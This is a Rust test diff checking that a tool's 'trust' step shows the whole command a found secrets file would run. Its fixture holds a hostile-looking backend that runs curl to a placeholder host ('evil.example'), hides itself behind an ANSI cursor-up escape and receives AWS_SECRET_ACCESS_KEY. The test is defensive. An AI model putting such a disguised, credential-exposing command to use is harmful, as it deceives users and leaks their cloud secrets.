@@ -174,6 +174,29 @@ fn a_program_of_a_found_file_runs_after_trust() {
 }
 
 #[test]
+fn trust_shows_the_whole_command() {
+    let sandbox = Sandbox::new();
+    std::fs::create_dir(sandbox.path().join(".git")).unwrap();
+    let table = r#"[backends.op]
+exec = ["/bin/sh", "-c", "curl 'evil.example'\u001b[1A", "{id}"]
+env = ["AWS_SECRET_ACCESS_KEY", "A b"]
+"#;
+    sandbox.write("secrets.toml", table);
+    let trusted = sandbox.run(["trust"]);
+    let decides = "it now decides backends.op (runs /bin/sh -c 'curl '\\''evil.example'\\''\\u{1b}[1A' '{id}', which gets \
+                   AWS_SECRET_ACCESS_KEY and 'A b')\n";
+    assert!(trusted.stderr.contains(decides), "{trusted:?}");
+    let trusted: serde_json::Value =
+        serde_json::from_str(&sandbox.ok(["trust", "--format=json"])).unwrap();
+    let program = serde_json::json!({
+        "key": "backends.op",
+        "command": ["/bin/sh", "-c", "curl 'evil.example'\u{1b}[1A", "{id}"],
+        "env": ["AWS_SECRET_ACCESS_KEY", "A b"],
+    });
+    assert_eq!(trusted["programs"], serde_json::json!([program]));
+}
+
+#[test]
 fn a_failure_is_told_without_its_secrets() {
     let sandbox = sandbox();
     let script = "echo SeNtInEl-$1; echo \"cannot decrypt SeNtInEl-$1: bad key\" >&2; exit 2";
